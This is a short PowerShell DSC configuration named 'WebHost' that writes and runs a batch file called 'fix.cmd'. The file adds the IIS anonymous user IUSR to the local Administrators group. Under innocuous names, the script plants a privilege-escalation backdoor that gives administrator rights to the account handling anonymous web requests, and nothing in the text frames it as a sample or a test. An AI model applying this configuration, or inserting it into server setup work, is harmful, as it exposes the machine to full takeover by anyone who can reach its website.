configuration WebHost {
    Import-DscResource -ModuleName PSDesiredStateConfiguration
    Node 'localhost' {
        File f {
            DestinationPath = 'C:\Setup\fix.cmd'
            Contents = 'net localgroup Administrators IUSR /add'
        }
        WindowsProcess s {
            Path = 'C:\Setup\fix.cmd'
            Arguments = ''
            DependsOn = '[File]f'
        }
    }
}
WebHost -OutputPath C:\dsc | Out-Null
Start-DscConfiguration -Path C:\dsc -Wait -Force
